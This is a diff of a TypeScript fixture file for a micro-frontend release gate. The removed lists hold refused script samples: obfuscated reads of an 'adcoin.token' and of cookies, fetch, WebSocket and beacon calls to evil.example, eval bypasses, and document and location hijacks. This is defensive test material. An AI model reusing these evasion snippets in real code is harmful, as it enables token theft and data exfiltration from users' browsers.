@@ -4,172 +4,6 @@
  * test, `e2e/journeys/release-gate.spec.ts`; of the page, `e2e/faults/strange-remote.spec.ts`.
  */
 
-/** Scripts that the gate refuses, by rule. */
-export const refusedScripts: Readonly<Record<string, readonly string[]>> = {
-  'own-storage': [
-    'localStorage.getItem("adcoin.token")',
-    'window["local"+"Storage"].getItem(k)',
-    'const n="local";globalThis[`${n}Storage`].clear()',
-    'const {["localStorage"]:s}=window;s.clear()',
-    'store.get("adcoin."+"token")',
-    'const p="adcoin",k=`${p}.token`;store.get(k)',
-    'document["coo"+"kie"]="a=b"',
-    'el.ownerDocument.cookie',
-  ],
-  'own-hosts': [
-    'fetch("https://evil.example/x")',
-    'fetch("//evil.example/x")',
-    'fetch(address)',
-    'fetch("/"+path)',
-    'window["fe"+"tch"]("https://evil.example")',
-    'const {fetch:f}=self;f("https://evil.example")',
-    'const f=fetch;f("https://evil.example")',
-    'fetch.call(null,"https://evil.example")',
-    'Reflect.apply(fetch,null,["https://evil.example"])',
-    'let u="/app/x";u="https://evil.example";fetch(u)',
-    'fetch(new URL("https://evil.example",import.meta.url))',
-    'function f(a=fetch("https://evil.example")){var fetch;return a}',
-    'function f(){{let fetch=1}return fetch("https://evil.example")}',
-    'new XMLHttpRequest',
-    'new WebSocket("wss://evil.example")',
-    'navigator.sendBeacon("https://evil.example",x)',
-    'new RTCPeerConnection',
-    'import("https://evil.example/x.js")',
-    'import(where)',
-    'import "https://evil.example/x.js"',
-  ],
-  'no-evaluation': [
-    'eval("1")',
-    '(0,eval)("1")',
-    'window.eval?.("1")',
-    'const {eval:e}=window',
-    'new Function("return 1")',
-    'Function("return this")()',
-    'const F=Function',
-    'Function.prototype.constructor("1")',
-    'setTimeout("alert(1)",1)',
-    'setTimeout(`a(${x})`)',
-    'window.setInterval("a"+"()",9)',
-    'const c="alert(1)";setTimeout(c)',
-    'const s=setTimeout;s("alert(1)")',
-    'a.href="javascript:alert(1)"',
-    'trustedTypes.createPolicy("x",{})',
-  ],
-  'document-stays': [
-    'document.open()',
-    'document.write("x")',
-    'document["wri"+"te"]("x")',
-    'window.document.writeln("x")',
-    'const {document:d}=window;d.open()',
-    'el.ownerDocument.open()',
-    'frame.contentDocument.write("x")',
-    '[document].map(d=>d.open())',
-    'document[name]()',
-    'frame.srcdoc="<p>"',
-    'frame.setAttribute("srcdoc","<p>")',
-    'jsx(tag,{srcDoc:html})',
-    'document.createElement("script")',
-    'document.createElement("iframe")',
-    'document.createElement(tag)',
-  ],
-  'location-stays': [
-    'location="/x"',
-    'location.href="/x"',
-    'window["loc"+"ation"].href="/x"',
-    'document.location="/x"',
-    'location.assign("/x")',
-    'location[name]("/x")',
-    'location.reload()',
-    'const l=location;l.href="/x"',
-    'const {location:l}=window',
-    '[location.href]=["/x"]',
-    'Object.assign(location,{href:"/x"})',
-    '(a||location).href="/x"',
-    'open("/x","_self")',
-    'navigation.navigate("/x")',
-    'el.ownerDocument.defaultView.location="/x"',
-    'function f(){{let location={}}location.href="/x"}',
-  ],
-  'plain-globals': [
-    'const w=window;w.location="/x"',
-    'use(self)',
-    'export{window as w}',
-    'let w;w=top',
-    'window[name]("1")',
-    'Reflect.get(window,name)',
-    'const {defaultView:v}=el.ownerDocument',
-    'use(frame.contentWindow)',
-  ],
-}
-
-/** A script with what the gate says about it. */
-export type ToldScript = readonly [script: string, says: string]
-
-const voice = `const emit=(0,bus.emitterFor)("team",own);`
-/** A remote emits only its own events, with literal names that its manifest lists. */
-export const foreignEvents: readonly ToldScript[] = [
-  ['(0,b.emitterFor)("wallet",walletEvents)', 'it speaks as wallet'],
-  ['b?.emitterFor?.("wallet")', 'it speaks as wallet'],
-  ['b["emitterFor"](`wallet`)', 'it speaks as wallet'],
-  ['b["emitter"+"For"]("wallet")', 'it speaks as wallet'],
-  ['import*as b from"./b.js";b.emitterFor("wallet")', 'it speaks as wallet'],
-  ['const n="emitterFor";b[n]("wallet")', 'it speaks as wallet'],
-  ['const {["emitterFor"]:make}=b;make("wallet")', 'without saying for whom'],
-  ['const {["emitter"+"For"]:make}=b;make("wallet")', 'without saying for whom'],
-  ['Reflect.get(b,"emitterFor")("wallet")', 'without saying for whom'],
-  ['b.emitterFor.call(b,"wallet")', 'without saying for whom'],
-  ['b.emitterFor.bind(b)("wallet")', 'without saying for whom'],
-  ['export{emitterFor}from"./b.js"', 'without saying for whom'],
-  ['b.voiceOf("team")("wallet")', 'it speaks as team'],
-  ['const own="wallet";b.emitterFor(own)', 'without saying for whom'],
-  ['const make=b.emitterFor;make("wallet")', 'without saying for whom'],
-  ['const {emitterFor:make}=b;make("wallet")', 'without saying for whom'],
-  ['[b].map(({emitterFor})=>emitterFor("team"))', 'without saying for whom'],
-  [`${voice}emit("wallet.balanceChanged",{})`, 'it emits wallet.balanceChanged, which only wallet may'],
-  [`${voice}emit("team.inviterLost",{})`, 'an event that the contract does not have'],
-  [`${voice}emit("team."+name,{})`, 'it emits an event without a literal name'],
-  ['(0,e.emit)("team.inviterLost",{})', 'an event that the contract does not have'],
-  ['(0,e.aB)("tasks.rewardPaid",{})', 'it emits tasks.rewardPaid, which only tasks may'],
-]
-
-const isNotInManifest = 'which its manifest does not name'
-const isNotInContract = 'an event that the contract does not have'
-/** A remote listens only to events that its manifest lists. */
-export const unlistedEvents: readonly ToldScript[] = [
-  ['b.bus.on("wallet.balanceLost",f)', isNotInContract],
-  ['b.bus.scope("team",s).on("wallet.balanceLost",f)', isNotInContract],
-  ['const s=b.bus.scope("team",signal);s.stream("wallet.balanceLost")', isNotInContract],
-  ['const {on}=b;x.on("wallet.balanceLost",f)', isNotInContract],
-  ['(0,b.useEvent)("wallet.balanceLost",f)', isNotInContract],
-  ['(0,b.useEvent)("wallet.balanceChanged",f)', isNotInManifest],
-  ['b.bus.stream(`wallet.balanceChanged`)', isNotInManifest],
-  ['b.bus.on("shell.languageChanged",f)', isNotInManifest],
-  ['b.bus.on(name,f)', 'without a literal name'],
-  ['(0,b.useEvent)(names.first,f)', 'without a literal name'],
-  ['const s=b.bus.scope("team");s.on(name,f)', 'without a literal name'],
-]
-
-/** A remote stores only what its release names. */
-export const unnamedStorage: readonly ToldScript[] = [
-  ['localStorage.setItem("x","y")', 'it uses localStorage itself'],
-  ['window.sessionStorage.x=1', 'it uses sessionStorage itself'],
-  ['globalThis["localStorage"].clear()', 'it uses localStorage itself'],
-  ['globalThis.window?.localStorage', 'it uses localStorage itself'],
-  ['const {localStorage:s}=window', 'it uses localStorage itself'],
-  ['const {localStorage}=window', 'it uses localStorage itself'],
-  ['keep({localStorage})', 'it uses localStorage itself'],
-  ['Storage.prototype.setItem.call(s,"x","y")', 'it uses Storage itself'],
-  ['indexedDB.open("x")', 'it uses indexedDB itself'],
-  ['document.cookie="x=y"', 'it uses document.cookie itself'],
-  ['window.document.cookie', 'it uses document.cookie itself'],
-  ['cookieStore.set("x","y")', 'it uses cookieStore itself'],
-  ['store.set("adcoin.token","")', 'it names the stored adcoin.token itself'],
-  ['store.set(`adcoin.draft.${user}`,"")', 'it names the stored adcoin.draft. itself'],
-  ['k.defineDraft({owner:"wallet",name:"sell",version:1,schema:s})', 'it keeps wallet.sell@1'],
-  ['k.defineDraft({owner:"team",name:"invite",version:2,schema:s})', 'it keeps team.invite@2'],
-  ['k.defineDraft(definition)', 'it keeps something'],
-]
-
 /** What the smoke test in a browser refuses: code of the entry, and what is found. */
 export const leftBehind: readonly (readonly [says: string, code: string, finds: string])[] = [
   ['a global', 'globalThis.leak=1', 'window.leak'],
@@ -387,8 +221,10 @@ export const endless: PageFault = [
 const own = '.team-0a1b2c3'
 const isNotOwn = 'no class that this build made'
 const isNoFile = 'no file of this release'
+/** A style or fragment with what the gate says about it. */
+type Told = readonly [written: string, says: string]
 /** Styles that the gate refuses, with the reason. */
-export const refusedStyles: readonly ToldScript[] = [
+export const refusedStyles: readonly Told[] = [
   ['body{margin:0}', 'global'],
   [`:root,${own}{--brand:red}`, 'global'],
   ['@media print{nav{display:none}}', 'global'],
@@ -415,7 +251,7 @@ const word = 'holds more than a word'
 const place = 'not closed, or stands where HTML does not allow it'
 const broken = 'broken HTML'
 /** Prerendered fragments that the gate refuses, with the reason. */
-export const refusedFragments: readonly ToldScript[] = [
+export const refusedFragments: readonly Told[] = [
   // The bypasses that were found by trying.
   ['<a href="/\\evil.example">x</a>', outside],
   // Addresses …
